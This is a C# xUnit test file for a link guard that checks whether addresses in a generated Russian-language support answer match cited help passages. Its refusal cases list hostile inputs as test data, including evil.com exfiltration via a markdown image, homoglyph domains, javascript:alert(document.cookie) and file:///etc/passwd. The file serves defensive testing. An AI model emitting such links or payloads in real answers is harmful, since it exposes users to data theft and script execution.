using Support.Generation.Guards;
using Xunit;

namespace Support.Tests.Generation.Guards;

public sealed class LinkGuardTests
{
    private const string Cited =
        """
        Подробнее: https://veranta.example/ru/help/oplata/ и [возвраты](https://veranta.example/ru/help/vozvrat?tab=1).
        Почта help@veranta.example, телефон 8 800 000-18-24, канал https://t.me/veranta_shop, сайт почта.рф, сервер 10.20.30.40:8080.
        """;

    [Theory]
    [InlineData("Ответ без ссылок, цена 1.5 руб., т.е. файл config.yaml и 3.1.2.")]
    [InlineData("См. https://veranta.example/ru/help/oplata.")]
    [InlineData("См. http://www.veranta.example/ru/help/oplata/ (оплата)")]
    [InlineData("HTTPS://VERANTA.example/ru/help/oplata")]
    [InlineData("[возвраты](https://veranta.example/ru/help/vozvrat?tab=1)")]
    [InlineData("[veranta.example](https://veranta.example/ru/help/oplata)")]
    [InlineData("на сайте veranta.example")]
    [InlineData("Пишите на Help@Veranta.example.")]
    [InlineData("mailto:help@veranta.example")]
    [InlineData("Звоните +7 (800) 000-18-24")]
    [InlineData("@veranta_shop или t.me/veranta_shop")]
    [InlineData("https://xn--80a1acny.xn--p1ai")]
    [InlineData("адрес 10.20.30.40:8080")]
    public void Addresses_of_a_cited_passage_pass(string answer) => Assert.Empty(LinkGuard.Find(answer, [Cited]));

    [Theory]
    [InlineData("См. https://veranta.example/ru/help/dostavka")]
    [InlineData("https://evil.com")]
    [InlineData("Зайдите на evil.com и войдите")]
    [InlineData("https://veranta.example.evil.com/ru/help/oplata")]
    [InlineData("https://veranta.example@evil.com/ru/help/oplata")]
    [InlineData("https://veranta.example/ru/help/oplata?card=4111111111111111")]
    [InlineData("https://vеranta.example/ru/help/oplata")]
    [InlineData("https://veranta.ехample")]
    [InlineData("ev\u200Bil.com")]
    [InlineData("evil。com")]
    [InlineData("ｅｖｉｌ．ｃｏｍ")]
    [InlineData("evil (dot) com")]
    [InlineData("evil[.]com/login")]
    [InlineData("злодей точка рф")]
    [InlineData("hxxps://evil.com")]
    [InlineData("support@evil.com")]
    [InlineData("help@veranta.example.evil.com")]
    [InlineData("Напишите @veranta_helper")]
    [InlineData("https://t.me/veranta_shop_bot")]
    [InlineData("https://t.me/+AbCdEf")]
    [InlineData("tg://resolve?domain=evil")]
    [InlineData("Звоните 8 900 123-45-67")]
    [InlineData("![x](https://evil.com/log?q=secret)")]
    [InlineData("<img src=https://evil.com/a.png>")]
    [InlineData("[1]: https://evil.com/a")]
    [InlineData("http://192.168.13.37/a")]
    [InlineData("злодей.рф")]
    [InlineData("bit.ly/abc")]
    [InlineData("mailto:help@veranta.example?bcc=evil@evil.com")]
    [InlineData("ftp://evil.com/x")]
    public void Other_addresses_are_refused(string answer) => Assert.NotEmpty(LinkGuard.Find(answer, [Cited]));

    [Theory]
    [InlineData("[оплата](javascript:alert(1))")]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("java\u200Bscript:alert(1)")]
    [InlineData("&#106;avascript:alert(1)")]
    [InlineData("data:text/html;base64,PHNjcmlwdD4=")]
    [InlineData("file:///etc/passwd")]
    [InlineData("vbscript:msgbox")]
    public void What_runs_is_refused_even_when_a_passage_has_it(string answer) =>
        Assert.Contains(LinkGuard.Find(answer, [answer]), link => link.Reason == ForeignLinkReason.DangerousScheme);

    [Fact]
    public void A_link_that_shows_another_address_is_refused() =>
        Assert.Contains(LinkGuard.Find("[bank.example](https://veranta.example/ru/help/oplata)", [Cited]), link => link.Reason == ForeignLinkReason.ShowsAnother);

    [Theory]
    [InlineData("a.")]
    [InlineData("[a](")]
    [InlineData("http://")]
    [InlineData("a@")]
    [InlineData("&amp;")]
    [InlineData("1.1.1.")]
    [InlineData("x dot ")]
    public void Hostile_input_takes_work_in_proportion(string piece) =>
        Work.IsInProportion(length => LinkGuard.Find(string.Concat(Enumerable.Repeat(piece, length / piece.Length)), [Cited]), 8_000);
}
